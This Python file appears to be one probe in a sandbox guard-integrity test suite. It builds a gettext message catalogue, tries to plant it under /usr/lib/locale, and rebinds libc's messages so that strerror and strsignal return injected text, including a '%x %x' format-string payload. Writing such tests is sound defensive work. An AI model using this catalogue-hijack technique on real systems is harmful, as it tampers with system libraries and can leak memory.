# class: files
# rule: guard_integrity
# success: libc takes the text of its own messages, formats among them, from a folder that came with
#   a package, where code binds them to it
# proof: word
# needs: namespace, language
import locale
import os
import signal
import struct

from attack import attempt

# The namespace's own: no name there can be made to lead elsewhere.
FOLDER = "/usr/lib/locale"


def catalogue(*pairs):
    """A file of translations."""
    texts = [text.encode() for pair in zip(*sorted(pairs)) for text in pair]
    count, places, body = len(pairs), b"", b""
    for text in texts:
        places += struct.pack("=II", len(text), 28 + 8 * len(texts) + len(body))
        body += text + b"\0"
    head = struct.pack("=7I", 0x950412DE, 0, count, 28, 28 + 8 * count, 0, 0)
    return head + places + body


@attempt
def take():
    os.makedirs(FOLDER + "/loot/LC_MESSAGES")
    with open(FOLDER + "/loot/LC_MESSAGES/libc.mo", "wb") as out:
        out.write(
            catalogue(
                ("", "Content-Type: text/plain; charset=UTF-8\n"),
                ("No such file or directory", "loot"),
                ("Real-time signal %d", "loot %x %x"),
            )
        )
    locale.setlocale(locale.LC_ALL, "xx_XX")
    os.environ["LANGUAGE"] = "loot"
    locale.bindtextdomain("libc", FOLDER)
    said = [os.strerror(2), signal.strsignal(40)]
    return any(text.startswith("loot") for text in said)
